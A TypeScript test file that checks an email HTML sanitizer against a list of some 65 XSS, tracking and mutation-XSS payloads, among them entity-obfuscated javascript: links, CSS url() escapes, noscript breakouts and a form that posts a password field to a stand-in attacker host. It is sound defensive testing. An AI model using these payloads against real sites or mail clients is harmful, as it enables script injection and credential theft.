// sanitizeHtml against classic XSS and exfiltration vectors. Each output is re-parsed and every
// element and attribute checked against the allow-list, so a vector that slips through in a new
// shape still fails here, not only the exact strings we thought of.
//
// htmlparser2 is sanitize-html's own parser (a pinned dependency of it); re-parsing with it
// checks the structure of our output. There is no browser on this machine to render it.
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { cleanCss, sanitizeHtml } from './sanitize.ts';
import { parseMessage } from './parse.ts';
import { HOSTILE_CORPUS } from '../testkit/hostile-mail.ts';

const ALLOWED_TAGS = new Set([
  'a', 'abbr', 'address', 'article', 'aside', 'b', 'bdi', 'bdo', 'big', 'blockquote', 'br', 'caption', 'center', 'cite', 'code', 'col', 'colgroup',
  'dd', 'del', 'details', 'dfn', 'div', 'dl', 'dt', 'em', 'figcaption', 'figure', 'font', 'footer', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'header',
  'hr', 'i', 'img', 'ins', 'kbd', 'li', 'main', 'mark', 'nav', 'ol', 'p', 'pre', 'q', 's', 'samp', 'section', 'small', 'span', 'strike', 'strong',
  'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'time', 'tr', 'tt', 'u', 'ul', 'var', 'wbr',
]);

interface Found {
  tag: string;
  attribs: Record<string, string>;
}

function elements(html: string): Found[] {
  const found: Found[] = [];
  const parser = new Parser({ onopentag: (tag, attribs) => found.push({ tag, attribs }) }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
  parser.write(html);
  parser.end();
  return found;
}

/** Everything a safe output must satisfy, checked on the parsed structure. */
function assertSafe(html: string, opts: { allowStyle?: boolean; allowRemote?: boolean } = {}): void {
  const problems: string[] = [];
  for (const { tag, attribs } of elements(html)) {
    if (!ALLOWED_TAGS.has(tag) && !(opts.allowStyle && tag === 'style')) problems.push(`tag <${tag}>`);
    for (const [name, value] of Object.entries(attribs)) {
      const compact = value.replace(/[\u0000-\u0020]+/g, '').toLowerCase();
      if (name.startsWith('on')) problems.push(`event handler ${name}`);
      if (['srcdoc', 'action', 'formaction', 'background', 'srcset', 'http-equiv', 'xlink:href', 'data', 'codebase', 'dynsrc', 'lowsrc', 'id', 'name'].includes(name)) problems.push(`attribute ${name}`);
      if (name === 'href' && !/^(https?:|mailto:|tel:|#)/.test(compact)) problems.push(`href ${value}`);
      if (name === 'src') {
        const ok = /^(cid:|data:image\/(png|gif|jpe?g|webp|bmp);base64,)/.test(compact) || (opts.allowRemote && /^https?:/.test(compact));
        if (!ok) problems.push(`src ${value}`);
      }
      // Whitespace inside CSS separates tokens (browsers do not ignore it there), so the style is
      // checked as written; the only escapes allowed are the re-escaped \\, < and >.
      if (name === 'style' && /url\s*\(|expression\s*\(|image-set\s*\(|@import|behavior|binding|javascript|\\(?!(?:5c|3c|3e) )/i.test(value)) problems.push(`style ${value}`);
    }
    if (tag === 'a' && attribs.href !== undefined) {
      if (attribs.target !== '_blank' || attribs.rel !== 'noopener noreferrer') problems.push(`link without target/rel: ${JSON.stringify(attribs)}`);
    }
  }
  if (/<\s*\/?\s*script/i.test(html)) problems.push('script text');
  expect(problems, html).toEqual([]);
}

const VECTORS: [string, string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['script split by null', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror no quotes and slash', '<img/src="x"/onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)><circle r=1 /></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg use xlink', '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>'],
  ['body onload', '<body onload=alert(1)>hi</body>'],
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['javascript href upper', '<a href="JAVASCRIPT:alert(1)">x</a>'],
  ['javascript href entity tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript href entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript href hex entities no semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['javascript href leading space and newline', '<a href=" \n javascript:alert(1)">x</a>'],
  ['javascript href colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data svg img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['javascript img', '<img src="javascript:alert(1)">'],
  ['relative img', '<img src="/api/v1/delete-everything">'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style url', '<div style="background:url(https://track.example/p.gif)">x</div>'],
  ['style url escaped', '<div style="background:u\\72 l(https://track.example/p.gif)">x</div>'],
  ['style url comment split', '<div style="background:u/**/rl(https://track.example/p.gif)">x</div>'],
  ['style url entity', '<div style="background:&#117;rl(https://track.example/p.gif)">x</div>'],
  ['style double escape', '<div style="background:\\5c 75rl(https://track.example/p.gif)">x</div>'],
  ['style image-set', '<div style="background-image:-webkit-image-set(\'https://t.example/a.png\' 1x)">x</div>'],
  ['style behavior', '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>'],
  ['style import', '<div style="@import \'https://evil.example/x.css\'">x</div>'],
  ['style element', '<style>body{background:url(https://t.example/x)}</style><p>hi</p>'],
  ['style element import', '<style>@import "https://evil.example/x.css";</style>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe src', '<iframe src="https://evil.example"></iframe>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://evil.example/"><a href="x">x</a>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['form action', '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>'],
  ['table background', '<table background="https://track.example/x.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>'],
  ['img srcset', '<img srcset="https://track.example/x.gif 1x" src="cid:ok@x">'],
  ['picture source', '<picture><source srcset="https://track.example/x.gif"><img src="cid:a"></picture>'],
  ['video poster', '<video poster="https://track.example/x.gif"><source src="x.mp4"></video>'],
  ['input image', '<input type="image" src="https://track.example/x.gif">'],
  ['broken tag', '<img src="x" onerror="alert(1)"'],
  ['unclosed attribute', '<a href="javascript:alert(1)>x</a>'],
  ['comment hiding script', '<!--<script>alert(1)</script>-->ok<!--[if IE]><script>alert(2)</script><![endif]-->'],
  ['conditional comment', '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]--><p>ok</p>'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]><p>ok</p>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mxss', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],
  ['attribute breakout', '<p title="x&quot; onmouseover=&quot;alert(1)">x</p>'],
  ['a id clobbering', '<a id="defaultView" name="cookie" href="https://ok.example">x</a>'],
  ['target override', '<a href="https://ok.example" target="_self" rel="opener">x</a>'],
  ['protocol relative link', '<a href="//evil.example/x">x</a>'],
  ['xml namespace', '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['deep nesting', '<div>'.repeat(5000) + '<img src=x onerror=alert(1)>' + '</div>'.repeat(5000)],
];

describe('sanitizeHtml: XSS vectors', () => {
  for (const [name, html] of VECTORS) {
    it(`neutralises ${name}`, () => {
      const { html: out } = sanitizeHtml(html);
      assertSafe(out);
      // Nothing executable survives even as escaped-but-live text in an attribute.
      expect(out.toLowerCase()).not.toMatch(/javascript:|vbscript:|onerror=|onload=|<script|<iframe|<meta|<base|<form/);
    });
  }

  it('neutralises every vector with style blocks allowed and remote images kept', () => {
    for (const [, html] of VECTORS) assertSafe(sanitizeHtml(html, { allowStyleTags: true }).html, { allowStyle: true, allowRemote: true });
  });

  it('neutralises the corpus HTML after a real parse', async () => {
    const m = await parseMessage(HOSTILE_CORPUS.find((i) => i.name === 'html-with-scripts')!.raw);
    const out = sanitizeHtml(m.html, { blockRemoteImages: true });
    assertSafe(out.html);
    expect(out.html).toContain('hi');
  });
});

describe('sanitizeHtml: what it keeps', () => {
  it('keeps ordinary email markup, text and inline styles', () => {
    const html =
      '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="color:#333;font-family:Arial, sans-serif;padding:8px">' +
      '<h1>Hello &amp; welcome</h1><p>Plain <b>bold</b> <i>it</i> <font face="Verdana" size="2">font</font></p><ul><li>one</li></ul></td></tr></table>';
    const out = sanitizeHtml(html).html;
    assertSafe(out);
    expect(out).toContain('<table width="600" cellpadding="0" bgcolor="#ffffff">');
    expect(out).toContain('style="color:#333;font-family:Arial, sans-serif;padding:8px"');
    expect(out).toContain('<h1>Hello &amp; welcome</h1>');
    expect(out).toContain('<font face="Verdana" size="2">font</font>');
  });

  it('adds target and rel to links and keeps mailto, tel and fragments', () => {
    const out = sanitizeHtml('<a href="https://example.com/a?b=1&amp;c=2">web</a> <a href="mailto:a@b.c">mail</a> <a href="tel:+123">tel</a> <a href="#top">top</a>').html;
    assertSafe(out);
    expect(out).toContain('<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">web</a>');
    expect(out).toContain('href="mailto:a@b.c"');
    expect(out).toContain('href="tel:+123"');
    expect(out).toContain('href="#top"');
  });

  it('drops the href of a dangerous link but keeps its text', () => {
    const out = sanitizeHtml('<a href="javascript:alert(1)">click</a>').html;
    expect(out).toBe('<a>click</a>');
  });

  it('drops scripts and their text, keeps text of removed harmless wrappers', () => {
    expect(sanitizeHtml('<script>var secret=1</script><custom-tag>kept</custom-tag>').html).toBe('kept');
  });

  it('keeps safe inline data images and cid images, rewriting cid when asked', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeHtml(`<img src="${png}" alt="">`).html).toBe(`<img alt="" src="${png}" />`);
    expect(sanitizeHtml('<img src="cid:logo@x">').html).toBe('<img src="cid:logo@x" />');
    const rewritten = sanitizeHtml('<img src="cid:logo%40x"><img src="cid:missing@x">', { cidUrl: (cid) => (cid === 'logo@x' ? '/v1/attachments/att_1' : null) }).html;
    expect(rewritten).toBe('<img src="/v1/attachments/att_1" /><img />');
  });

  it('counts remote images and blocks them on request', () => {
    const html = '<img src="https://t.example/a.gif"><img src="http://t.example/b.gif"><img src="//t.example/c.gif"><img src="cid:x@y">';
    const open = sanitizeHtml(html);
    expect(open).toMatchObject({ remoteImages: 3, remoteImagesBlocked: 0 });
    expect(open.html).toContain('src="https://t.example/a.gif"');
    expect(open.html).toContain('src="https://t.example/c.gif"'); // protocol-relative made explicit
    const blocked = sanitizeHtml(html, { blockRemoteImages: true });
    expect(blocked).toMatchObject({ remoteImages: 3, remoteImagesBlocked: 3 });
    expect(blocked.html).toBe('<img /><img /><img /><img src="cid:x@y" />');
    assertSafe(blocked.html);
  });

  it('keeps cleaned style blocks and classes only when asked', () => {
    const html = '<html><head><style>.a{color:red;background:url(https://t.example/x)} @import "x.css";</style></head><body><p class="a">hi</p></body></html>';
    expect(sanitizeHtml(html).html).toBe('<p>hi</p>');
    const kept = sanitizeHtml(html, { allowStyleTags: true }).html;
    expect(kept).toContain('<style>.a{color:red;background:blocked(https://t.example/x)} blocked "x.css";</style>');
    expect(kept).toContain('<p class="a">hi</p>');
    // A style block cannot be closed early by an escape that decodes to '</style>'.
    const breakout = sanitizeHtml('<style>p{content:"\\3c/style\\3e<script>alert(1)</script>"}</style>', { allowStyleTags: true }).html;
    assertSafe(breakout, { allowStyle: true });
    expect(breakout.match(/<\/style>/g)).toHaveLength(1);
  });

  it('handles empty, null and NUL input', () => {
    expect(sanitizeHtml('').html).toBe('');
    expect(sanitizeHtml(null).html).toBe('');
    expect(sanitizeHtml('a\u0000b').html).toBe('a\ufffdb');
  });
});

describe('cleanCss', () => {
  it('leaves ordinary declarations alone', () => {
    expect(cleanCss('color: red; font: 12px/1.5 "Helvetica Neue", Arial; margin:0 auto')).toBe('color: red; font: 12px/1.5 "Helvetica Neue", Arial; margin:0 auto');
    expect(cleanCss('background: linear-gradient(#fff, #000)')).toBe('background: linear-gradient(#fff, #000)');
  });

  it('decodes escapes before checking and never emits an escape that decodes to something else', () => {
    expect(cleanCss('background:\\75\\72\\6c(x)')).toBe('background:blocked(x)');
    expect(cleanCss('background:\\5c 75rl(x)')).toBe('background:\\5c 75rl(x)'); // a literal backslash, not an escape
    expect(cleanCss('x:\\3c/style\\3e')).toBe('x:\\3c /style\\3e ');
    expect(cleanCss('a/* unterminated url(x)')).toBe('a ');
  });

  it('is linear on long hostile input', () => {
    const css = '/*'.repeat(50_000) + 'u'.repeat(100_000) + '\\'.repeat(100_000) + ' \t'.repeat(50_000);
    expect(typeof cleanCss(css)).toBe('string');
    expect(typeof cleanCss('url'.repeat(60_000) + ' '.repeat(60_000))).toBe('string');
  });
});
